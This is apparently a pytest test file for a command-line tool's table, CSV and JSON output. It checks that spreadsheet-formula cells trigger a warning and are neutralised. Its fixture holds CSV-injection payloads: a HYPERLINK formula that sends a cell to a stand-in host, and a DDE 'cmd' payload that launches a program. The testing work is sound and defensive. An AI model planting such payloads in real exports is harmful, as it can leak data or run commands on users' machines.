"""What the commands print: tables, CSV and JSON, and CSV cells that spreadsheets would run
(issue 15, class 9), with inputs of our own."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from relgraph.cli import app
from relgraph.cli.output import TABLE_WIDTH, format_table

runner = CliRunner()

FORMULAS = """\
actors:
  - {id: A, name: "=HYPERLINK(\\"http://x.example/?\\"&A1)", kind: state}
  - {id: B, name: "+cmd|' /C calc'!A0", kind: state}
  - {id: NA, name: Namibia, kind: state}
stances:
  - {id: s, actor: A, target: B, kind: other, valence: -0.5, start: 2024, label: "@SUM(1+1)"}
  - {id: t, actor: NA, target: B, kind: other, valence: 0.5, start: 2024, label: "-2+3"}
"""


def run(*args: str | Path) -> tuple[int, str, str]:
    result = runner.invoke(app, [str(a) for a in args])
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def formulas(tmp_path: Path) -> Path:
    path = tmp_path / "formulas.yaml"
    path.write_text(FORMULAS, encoding="utf-8")
    return path


# -- tables ----------------------------------------------------------------------------------


def test_a_table_shortens_the_label_first_then_ids_and_words_never_numbers() -> None:
    rows = [
        {"key": "k" * 30, "actor": "a" * 20, "kind": "diplomatic", "valence": -0.5,
         "start": "2024-05-14", "label": "l" * 60},
    ]  # fmt: skip
    table = format_table(rows, width=80)
    lines = table.splitlines()
    assert {len(line) for line in lines} <= set(range(81))
    header, row = lines
    assert row.split(" ")[-1] == "l" * 15 + "…"  # the label keeps 16 characters
    assert "-0.500" in row
    assert "2024-05-14" in row
    # a wide enough table keeps everything, with two spaces between columns
    assert format_table(rows, width=200) == format_table(rows)
    assert "  " in format_table(rows, width=200).splitlines()[1]


def test_a_table_too_narrow_still_keeps_its_headers_and_numbers() -> None:
    rows = [{"label": "x" * 50, "actor": "y" * 50, "confidence": 0.5}]
    line = format_table(rows, width=20).splitlines()[1]
    assert line.endswith("0.500")
    assert line.startswith("xxxx… yyyy…")


def test_a_table_shows_control_characters_escaped_not_raw() -> None:
    # the loader refuses them in a file; a graph built in Python may still hold them
    table = format_table([{"label": "red\x1b[31m alert\r\nnext", "n": 1}])
    assert table.splitlines()[1] == "red\\x1b[31m alert\\r\\nnext  1"
    assert "\x1b" not in table


def test_the_seed_table_fits(tmp_path: Path) -> None:
    seed = Path(__file__).parents[2] / "data" / "relations.yaml"
    code, out, _ = run("show", seed, "--at", "2024-05-14")
    assert code == 0
    assert max(len(line) for line in out.splitlines()) <= TABLE_WIDTH


# -- CSV cells a spreadsheet would run (class 9) ----------------------------------------------

WARNING = (
    "Warning: {count} cells begin with =, +, -, @ or a control character, which a spreadsheet "
    "runs as a formula: {cells}. They are written exactly as in the file; to open the output "
    "in a spreadsheet, write it again with --spreadsheet-safe.\n"
)


def test_csv_keeps_the_data_exact_and_names_the_cells_on_stderr(formulas: Path) -> None:
    code, out, err = run("show", formulas, "--at", "2024-05-01", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["label"] for row in rows] == ["@SUM(1+1)", "-2+3"]
    assert [row["valence"] for row in rows] == ["-0.5", "0.5"]  # numbers are not formulas
    assert err == WARNING.format(count=2, cells="row 2 label ('@SUM(1+1)'), row 3 label ('-2+3')")


def test_spreadsheet_safe_csv_makes_them_text(formulas: Path) -> None:
    code, out, err = run(
        "show", formulas, "--at", "2024-05-01", "--format", "csv", "--spreadsheet-safe"
    )
    assert (code, err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["label"] for row in rows] == ["'@SUM(1+1)", "'-2+3"]
    assert [row["valence"] for row in rows] == ["-0.5", "0.5"]


def test_stats_csv_warns_of_names(formulas: Path) -> None:
    code, _, err = run("stats", formulas, "--at", "2024-05-01", "--format", "csv")
    assert code == 0
    assert err == WARNING.format(
        count=2,
        cells="row 2 name ('=HYPERLINK(\"http://x.example/?\"&A1)'), "
        "row 3 name (\"+cmd|' /C calc'!A0\")",
    )


def test_export_warns_per_file_and_neutralises_on_request(formulas: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    code, _, err = run("export", formulas, "--format", "csv", "-o", out)
    assert code == 0
    assert err == WARNING.format(
        count=4,
        cells="actors.csv row 2 name ('=HYPERLINK(\"http://x.example/?\"&A1)'), "
        "actors.csv row 3 name (\"+cmd|' /C calc'!A0\"), "
        "stances.csv row 2 label ('@SUM(1+1)'), stances.csv row 3 label ('-2+3')",
    )
    with (out / "actors.csv").open(newline="", encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["name"] == '=HYPERLINK("http://x.example/?"&A1)'
    code, _, err = run("export", formulas, "--format", "csv", "--spreadsheet-safe", "-o", out)
    assert (code, err) == (0, "")
    with (out / "actors.csv").open(newline="", encoding="utf-8") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert names == ['\'=HYPERLINK("http://x.example/?"&A1)', "'+cmd|' /C calc'!A0", "Namibia"]


def test_spreadsheet_safe_is_for_csv_formats_only(formulas: Path, tmp_path: Path) -> None:
    code, _, err = run(
        "export", formulas, "--format", "json", "--spreadsheet-safe", "-o", tmp_path / "x.json"
    )
    assert code == 2
    assert err.endswith(
        "Error: Invalid value for --spreadsheet-safe: used by the CSV formats (csv, panel) "
        "only, not by --format json\n"
    )


def test_the_readme_s_pandas_advice_keeps_namibia(formulas: Path, tmp_path: Path) -> None:
    import pandas as pd

    out = tmp_path / "csv"
    assert run("export", formulas, "--format", "csv", "-o", out)[0] == 0
    naive = pd.read_csv(out / "actors.csv")
    assert naive["id"].isna().sum() == 1  # the trap: Namibia's NA read as missing
    advised = pd.read_csv(out / "actors.csv", dtype=str, keep_default_na=False)
    assert advised["id"].tolist() == ["A", "B", "NA"]
    assert advised["name"][0] == '=HYPERLINK("http://x.example/?"&A1)'
